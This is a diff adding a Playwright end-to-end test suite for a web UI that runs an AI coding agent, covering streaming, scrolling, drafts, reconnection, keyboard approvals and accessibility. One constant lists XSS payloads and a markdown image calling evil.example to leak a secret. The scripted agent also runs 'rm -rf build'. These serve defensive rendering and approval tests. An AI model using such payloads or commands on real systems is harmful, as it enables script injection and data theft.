@@ -1,0 +1,394 @@
+import path from "node:path";
+import type { Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
+import { cutScript, playCuts } from "./cut-journey.ts";
+import { desktop, noBrowser, phone, WebBrowser } from "./web-browser.ts";
+import {
+  about,
+  expectStatus,
+  finish,
+  sidewaysOf,
+  tabTo,
+  takePictures,
+  terminal,
+  violationsOf,
+} from "./web-page.ts";
+
+/** What an agent, a tool or a file may write to become a part of the page. */
+const hostile = [
+  "<script>window.hacked = 1</script>",
+  "<img src=x onerror='window.hacked = 1'>",
+  "<svg onload='window.hacked = 1'></svg>",
+  "[click](javascript:window.hacked=1)",
+  "![picture](https://evil.example/leak?secret)",
+  "<a href='javascript:window.hacked=1'>x</a>",
+  "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
+  "[x](data:text/html,<script>window.hacked=1</script>)",
+].join("\n\n");
+
+const cuts = 10;
+
+/** Screens that are shown in the guide, by their address. */
+const pictures = new Map([
+  ["/", "home"],
+  ["/inbox", "inbox"],
+]);
+
+const script = [
+  ...cutScript(cuts),
+  ...about(
+    "repair",
+    {
+      reasoning: "First I look.",
+      text: "I will look first.",
+      tool_calls: [terminal("printf 'one\\ntwo\\n' > note.txt; cat note.txt", "write a note")],
+    },
+    { tool_calls: [terminal("cat missing.txt", "read what is not there")] },
+    finish("The note has **two** lines.\n\n| line | text |\n|---|---|\n| 1 | one |"),
+  ),
+  ...about("slow", { tool_calls: [terminal("sleep 60", "wait a minute")] }, finish("Done waiting.")),
+  ...about("Explain", {
+    text: `The first part.\n\n\`\`\`js\nconst one = 1;\n\n  two();\n\`\`\`\n\nIt goes on${" and on".repeat(4_000)}.`,
+    chunk_size: 12,
+    chunk_delay_ms: 40,
+  }),
+  ...about("talk", { text: "word ".repeat(400), chunk_size: 20, chunk_delay_ms: 20 }),
+  ...about(
+    "danger",
+    { tool_calls: [terminal("rm -rf build", "remove the build")] },
+    finish("It is gone, or it is not."),
+  ),
+  ...about(
+    "hostile",
+    {
+      text: hostile,
+      tool_calls: [
+        terminal(`cat <<'END'\n${hostile}\nEND`, "<b>bold</b> <script>window.hacked = 1</script>"),
+      ],
+    },
+    finish(hostile),
+  ),
+];
+
+describe.skipIf(noBrowser !== null)("the page", () => {
+  let web: WebBrowser;
+  beforeAll(async () => {
+    web = await WebBrowser.open(script);
+  });
+  afterAll(() => web[Symbol.asyncDispose]());
+  afterEach(() => expect(web.faults.splice(0)).toEqual([]));
+
+  test("J3, U5: from a one-time link to a finished conversation", async () => {
+    const page = await web.logIn();
+    expect(page.url()).not.toContain("#");
+    await page.getByLabel("Folder").fill(web.place.folder);
+    await page.getByRole("textbox", { name: "Message" }).fill("Please repair the note");
+    await page.keyboard.press("Enter");
+    const feed = page.getByRole("feed");
+    await feed.getByText("The note has two lines.").waitFor();
+    await expectStatus(page, "done");
+    await feed.getByRole("button", { name: "write a note" }).click();
+    await feed.locator("pre", { hasText: "one" }).waitFor();
+    expect(await feed.getByText("exit 1").count()).toBe(1);
+    expect(await feed.getByRole("table").getByRole("cell", { name: "one" }).count()).toBe(1);
+    expect(
+      await page
+        .getByRole("navigation")
+        .getByRole("link", { name: /repair the note/ })
+        .count(),
+    ).toBe(1);
+    await page.context().close();
+  });
+
+  test("J4: a reload, a second tab and a phone show the same", async () => {
+    const id = await web.converse("repair it");
+    const page = await web.logIn();
+    await page.goto(`${web.url}/c/${id}`);
+    await page.getByText("The note has two lines.").waitFor();
+    const shown = await textOf(page);
+    await page.reload();
+    await page.getByText("The note has two lines.").waitFor();
+    expect(await textOf(page)).toBe(shown);
+    const tab = await web.tab(page);
+    await tab.goto(`${web.url}/c/${id}`);
+    await tab.getByText("The note has two lines.").waitFor();
+    expect(await textOf(tab)).toBe(shown);
+    const small = await web.logIn(phone);
+    await small.goto(`${web.url}/c/${id}`);
+    await small.getByText("The note has two lines.").waitFor();
+    expect(words(await textOf(small))).toBe(words(shown));
+    expect(await sidewaysOf(small)).toBe(0);
+    await page.context().close();
+    await small.context().close();
+  });
+
+  test("J7: stop ends it, and go on goes on", async () => {
+    const id = await web.converse("something slow");
+    const page = await web.logIn();
+    await page.goto(`${web.url}/c/${id}`);
+    await page.getByRole("button", { name: "wait a minute" }).waitFor();
+    await page.getByRole("button", { name: "Stop", exact: true }).click();
+    await expectStatus(page, "paused");
+    await page.getByRole("feed").getByText("Stopped").waitFor();
+    await page.getByRole("button", { name: "Go on", exact: true }).click();
+    await page.getByText("Done waiting.").waitFor();
+    await page.context().close();
+  });
+
+  test("J8, U9: scrolling up loads older pages, and nothing moves by itself", async () => {
+    const id = await web.converse(null);
+    for (let index = 0; index < 150; index += 1) {
+      const content = `Message ${index} ${"and more ".repeat(index % 7)}`;
+      await web.call("POST", `/api/conversations/${id}/events`, { content, run: false });
+    }
+    const page = await web.logIn();
+    await page.goto(`${web.url}/c/${id}`);
+    await page.getByText("Message 149").waitFor();
+    const jumps = await page.getByRole("feed").evaluate(scrollToTop);
+    expect(jumps.largest).toBeLessThanOrEqual(1);
+    expect(jumps.frames).toBeGreaterThan(50);
+    await page.getByText("Message 0 ", { exact: false }).first().waitFor();
+    await page.getByRole("button", { name: "To the end" }).click();
+    await page.getByText("Message 149").waitFor();
+    await page.context().close();
+  });
+
+  test("J9: who reads above is not moved while an answer streams and ends", async () => {
+    const id = await web.converse(null);
+    for (let index = 0; index < 40; index += 1)
+      await web.call("POST", `/api/conversations/${id}/events`, { content: `Line ${index}`, run: false });
+    const page = await web.logIn();
+    await page.goto(`${web.url}/c/${id}`);
+    await page.getByRole("feed").getByText("Line 39").waitFor();
+    await web.call("POST", `/api/conversations/${id}/events`, { content: "Now talk", run: true });
+    await page.getByText("Writing, not stored yet").waitFor();
+    const feed = page.getByRole("feed");
+    await feed.hover();
+    await page.mouse.wheel(0, -900);
+    await page.getByRole("button", { name: /new$|To the end/ }).waitFor();
+    const before = await feed.evaluate((element) => element.scrollTop);
+    await expectStatus(page, "done");
+    expect(await feed.evaluate((element) => element.scrollTop)).toBe(before);
+    await page.context().close();
+  });
+
+  test("J10, U11: what is selected stays selected while the answer goes on, and code is copied as it was written", async () => {
+    const id = await web.converse(null);
+    const page = await web.logIn();
+    await page.goto(`${web.url}/c/${id}`);
+    await page.getByRole("textbox", { name: "Message" }).fill("Explain it");
+    await page.keyboard.press("Enter");
+    const feed = page.getByRole("feed");
+    await feed.getByText("The first part.").waitFor();
+    await feed.getByText("The first part.").evaluate((element) => getSelection()!.selectAllChildren(element));
+    await feed.getByText(/goes on( and on){20}/).waitFor();
+    expect(await page.evaluate(() => String(getSelection()))).toBe("The first part.");
+    // The first one copies the message.
+    await feed.getByRole("button", { name: "Copy" }).last().click();
+    const field = page.getByRole("textbox", { name: "Message" });
+    const pasted = async (): Promise<string> => {
+      await field.fill("");
+      await field.press("Control+V");
+      return await field.inputValue();
+    };
+    await expect.poll(pasted).toBe("const one = 1;\n\n  two();");
+    await web.call("POST", `/api/conversations/${id}/interrupt`);
+    await page.context().close();
+  });
+
+  test("J11, U16: a draft survives leaving, reloading and closing, and stays in its conversation", async () => {
+    const [one, two] = [await web.converse(null), await web.converse(null)];
+    const page = await web.logIn();
+    const field = page.getByRole("textbox", { name: "Message" });
+    await page.goto(`${web.url}/c/${one}`);
+    await field.fill("half a thought");
+    await page.goto(`${web.url}/c/${two}`);
+    await expect.poll(() => field.inputValue()).toBe("");
+    await page.reload();
+    await page.goto(`${web.url}/c/${one}`);
+    await expect.poll(() => field.inputValue()).toBe("half a thought");
+    const tab = await web.tab(page);
+    await page.close();
+    await tab.goto(`${web.url}/c/${one}`);
+    await expect
+      .poll(() => tab.getByRole("textbox", { name: "Message" }).inputValue())
+      .toBe("half a thought");
+    await tab.context().close();
+  });
+
+  test("J13, U15: the server is killed and comes back: no reload, and what was written meanwhile is there once", async () => {
+    const id = await web.converse(null);
+    const page = await web.logIn();
+    await page.goto(`${web.url}/c/${id}`);
+    const field = page.getByRole("textbox", { name: "Message" });
+    await field.waitFor();
+    await web.killAndRestart(async () => {
+      await field.fill("Please repair after the cut");
+      await page.keyboard.press("Enter");
+      await page.getByText("sending").waitFor();
+      await page.getByText(/No connection since/).waitFor();
+    });
+    await page.getByText("The note has two lines.").waitFor();
+    expect(await page.getByRole("feed").getByText("Please repair after the cut").count()).toBe(1);
+    await expect.poll(() => page.getByText(/No connection since/).count()).toBe(0);
+    await page.context().close();
+  });
+
+  test("J13, U15, U16: cut and asleep at seeded moments, the page shows each event of the log once", async () => {
+    const report = await playCuts(web, { count: cuts, seed: 7, killEvery: 0, sleepEvery: 5, sleepMs: 300 });
+    const expected = Array.from({ length: cuts }, (_, number) => [`talk ${number}`, `Answer ${number}`]);
+    expect(report).toMatchObject({
+      stored: expected.flat(),
+      shown: expected.flat(),
+      wasReloaded: false,
+    });
+  });
+
+  test("J5, U17, U19: an approval is answered with the keyboard alone, in the inbox and in the conversation", async () => {
+    const always = { confirmation_policy: { kind: "AlwaysConfirm" } };
+    const page = await web.logIn();
+    await web.converse("danger one", always);
+    await page.keyboard.press("Escape");
+    await page.locator("body").press("g");
+    await page.locator("body").press("i");
+    const card = page.getByRole("group", { name: "Approval: terminal" });
+    await card.getByText("rm -rf build").waitFor();
+    expect(await page.title()).toMatch(/^\(1\)/);
+    await tabTo(page, "[data-approval]");
+    await expect
+      .poll(async () => {
+        await page.keyboard.press("r");
+        return await page.getByPlaceholder(/The agent reads this/).count();
+      })
+      .toBe(1);
+    await page.keyboard.type("Keep it.");
+    await page.keyboard.press("Enter");
+    await page.getByText("Nothing waits for you.").waitFor();
+    const id = await web.converse("danger two", always);
+    await page.goto(`${web.url}/c/${id}`);
+    await card.waitFor();
+    await expect
+      .poll(async () => {
+        await tabTo(page, "[data-approval]");
+        await page.keyboard.press("a");
+        return await card.count();
+      })
+      .toBe(0);
+    await page.context().close();
+  });
+
+  test("J29, U21: nothing that an agent writes becomes a part of the page", async () => {
+    const id = await web.converse("hostile things");
+    const page = await web.logIn();
+    await page.goto(`${web.url}/c/${id}`);
+    await expectStatus(page, "done");
+    await page.getByRole("feed").getByRole("button", { name: /bold/ }).click();
+    await page.getByRole("feed").locator("pre").first().waitFor();
+    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+    expect(await page.locator("main script, main iframe, main img, main svg[onload]").count()).toBe(0);
+    const addresses = await page
+      .locator("main a")
+      .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href));
+    expect(addresses.filter((address) => !/^https?:/.test(address))).toEqual([]);
+    await page.context().close();
+  });
+
+  test.each([
+    ["at a desk", "light", desktop],
+    ["at a desk", "dark", desktop],
+    ["on a phone", "light", phone],
+  ] as const)("U18, U20: axe finds nothing %s, %s", async (_, theme, options) => {
+    const workspace = { kind: "LocalWorkspace", working_dir: path.join(web.place.folder, "notes") };
+    const finished = await web.converse("repair it", { title: "Repair the note", workspace });
+    await web.converse("danger three", {
+      title: "Remove the old build",
+      workspace,
+      confirmation_policy: { kind: "AlwaysConfirm" },
+    });
+    const page = await web.logIn({ ...options, colorScheme: theme });
+    const screens = [
+      "/",
+      "/inbox",
+      `/c/${finished}`,
+      "/settings/models",
+      "/settings/secrets",
+      "/settings/mcp",
+      "/settings/look",
+      "/settings/notifications",
+      "/conversations",
+      "/archived",
+    ];
+    for (const screen of screens) {
+      await page.goto(`${web.url}${screen}`);
+      await page.getByRole("heading", { level: 1 }).first().waitFor();
+      await page.waitForLoadState("networkidle");
+      expect({ screen, found: await violationsOf(page) }).toEqual({ screen, found: [] });
+      expect({ screen, sideways: await sidewaysOf(page) }).toEqual({ screen, sideways: 0 });
+      const picture = options === desktop && theme === "light" ? pictures.get(screen) : undefined;
+      if (picture !== undefined) await takePictures(page, picture, "phone", "dark");
+    }
+    await page.context().close();
+  });
+});
+
+test.skipIf(noBrowser !== null)(
+  "J1, U1: without a model the demo is watched, and its one question answered",
+  async () => {
+    await using web = await WebBrowser.open(null);
+    const page = await web.logIn();
+    await page.getByRole("button", { name: "Watch it work" }).click();
+    const card = page.getByRole("group", { name: /^Approval/ });
+    await card.waitFor();
+    await takePictures(page, "approval", "phone");
+    await expect
+      .poll(async () => {
+        const allow = card.getByRole("button", { name: "Allow", exact: true });
+        if ((await allow.count()) > 0) await allow.click();
+        return await card.count();
+      })
+      .toBe(0);
+    await expectStatus(page, "done");
+    await takePictures(page, "conversation", "phone", "dark");
+    await page.goto(`${page.url()}?panel=outline`);
+    await page
+      .getByRole("region", { name: "Outline" })
+      .getByRole("button", { name: /failing/ })
+      .waitFor();
+    await takePictures(page, "outline");
+    expect(web.faults).toEqual([]);
+  },
+);
+
+function textOf(page: Page): Promise<string> {
+  return page.getByRole("feed").innerText();
+}
+
+function words(text: string): string {
+  return text.split(/\s+/).join(" ");
+}
+
+/** Scrolls up by a fixed step each frame and compares where a row really went; runs in the page. */
+async function scrollToTop(element: Element): Promise<{ largest: number; frames: number }> {
+  const step = 40;
+  let largest = 0;
+  let frames = 0;
+  let still = 0;
+  const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
+  element.dispatchEvent(new WheelEvent("wheel", { deltaY: -1, bubbles: true }));
+  while (still < 60 && frames < 5_000) {
+    const middle = element.getBoundingClientRect().top + element.clientHeight / 2;
+    const rows = [...element.querySelectorAll("article")];
+    const row = rows.find((candidate) => candidate.getBoundingClientRect().bottom > middle);
+    const before = row?.getBoundingClientRect().top ?? 0;
+    const from = element.scrollTop;
+    element.scrollTop = from - step;
+    const moved = Math.min(step, from);
+    await frame();
+    await frame();
+    if (row?.isConnected === true)
+      largest = Math.max(largest, Math.abs(row.getBoundingClientRect().top - before - moved));
+    frames += 1;
+    still = element.scrollTop === 0 ? still + 1 : 0;
+  }
+  return { largest, frames };
+}
